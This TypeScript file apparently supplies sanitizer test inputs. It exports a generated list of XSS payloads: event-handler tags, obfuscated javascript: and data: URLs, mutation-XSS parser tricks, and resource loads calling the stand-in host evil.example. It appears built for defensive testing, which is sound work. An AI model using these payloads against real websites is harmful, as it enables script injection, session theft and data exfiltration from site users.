// Pages that try to run something, to load something or to break out of where their text is put.

/** What each tries to do, so that a success shows. */
const deed = "document.title='broken'";
const elsewhere = 'https://evil.example/taken';

const loud = [
  ...['img src=x', 'video src=x', 'audio src=x', 'image href=x', 'input type=image src=x'],
  ...['object data=x', 'embed src=x', 'link rel=stylesheet href=x', 'script src=x', 'track src=x'],
].map((tag) => `<${tag} onerror="${deed}">`);

const handlers = [
  'onload',
  'onfocus autofocus tabindex=0',
  'ontoggle open',
  'onmouseover',
  'onanimationstart',
];

const eager = [
  'svg',
  'body',
  'details',
  'iframe',
  'select',
  'textarea',
  'marquee',
  'style',
  'form',
  'keygen',
].flatMap((tag) =>
  handlers.map((handler) => {
    const [event = '', ...others] = handler.split(' ');
    return `<${tag} ${others.join(' ')} ${event}="${deed}"><b>text</b></${tag}>`;
  }),
);

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  '&#106;avascript:',
  'javascript&colon;',
  'data:text/html,<script>',
  'vbscript:',
  'blob:',
  'feed:javascript:',
];

const linked = schemes.flatMap((scheme) => [
  `<a href="${scheme}${deed}">text</a>`,
  `<iframe src="${scheme}${deed}"></iframe>`,
  `<form action="${scheme}${deed}"><button>text</button></form>`,
]);

/** Read one way, and another way when written out and read again. */
const shifting = [
  `<svg></p><style><a id="</style><img src=x onerror=${deed}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${deed}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${deed}>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${deed}>">`,
  `<svg><desc><noembed></desc></noembed><script>${deed}</script>`,
  `<title><a title="</title><img src=x onerror=${deed}>">`,
  `<textarea><a title="</textarea><img src=x onerror=${deed}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${deed}>">`,
  `<!--><img src=x onerror=${deed}>-->`,
  `<![CDATA[><img src=x onerror=${deed}>]]>`,
  `<img src="x\` \`<script>${deed}</script>"\` \`>`,
  `<scr<script>ipt>${deed}</scr</script>ipt>`,
  `<<script>${deed}//<</script>`,
  `<img """><script>${deed}</script>">`,
  `<p a='>' onclick=${deed}>text</p>`,
  `<p a="\u0000" onclick=${deed}>text</p>`,
  `<style>@import '${elsewhere}';*{background:url(${elsewhere})}</style>`,
  `&lt;script&gt;${deed}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${deed}&amp;gt;`,
];

const loading = [
  `<img src="${elsewhere}">`,
  `<img srcset="${elsewhere} 2x">`,
  `<picture><source srcset="${elsewhere}"><img></picture>`,
  `<video poster="${elsewhere}"></video>`,
  `<audio src="${elsewhere}" autoplay></audio>`,
  `<iframe src="${elsewhere}"></iframe>`,
  `<iframe srcdoc="<img src='${elsewhere}'>"></iframe>`,
  `<object data="${elsewhere}"></object>`,
  `<embed src="${elsewhere}">`,
  `<link rel=stylesheet href="${elsewhere}">`,
  `<link rel=prefetch href="${elsewhere}">`,
  `<link rel=dns-prefetch href="${elsewhere}">`,
  `<link rel=preconnect href="${elsewhere}">`,
  `<link rel=modulepreload href="${elsewhere}">`,
  `<link rel=manifest href="${elsewhere}">`,
  `<script src="${elsewhere}"></script>`,
  `<script type=module>import '${elsewhere}'</script>`,
  `<script>fetch('${elsewhere}')</script>`,
  `<base href="${elsewhere}/">`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<body background="${elsewhere}">`,
  `<table background="${elsewhere}"><td>text</td></table>`,
  `<p style="background:url(${elsewhere})">text</p>`,
  `<svg><image href="${elsewhere}"/></svg>`,
  `<svg><use href="${elsewhere}#a"/></svg>`,
  `<svg><feImage href="${elsewhere}"/></svg>`,
  `<input type=image src="${elsewhere}">`,
  `<a ping="${elsewhere}" href="#">text</a>`,
  `<form action="${elsewhere}"><input name=a value=b></form>`,
  `<portal src="${elsewhere}"></portal>`,
  `<template shadowrootmode=open><img src="${elsewhere}"></template>`,
  `<frameset><frame src="${elsewhere}"></frameset>`,
  `<applet code=a archive="${elsewhere}"></applet>`,
  `<track src="${elsewhere}">`,
];

export const hostilePages: readonly string[] = [
  ...loud,
  ...eager,
  ...linked,
  ...shifting,
  ...loading,
  `<script>${deed}</script>`,
  `<SCRIPT>${deed}</SCRIPT>`,
  `<svg><script>${deed}</script></svg>`,
];
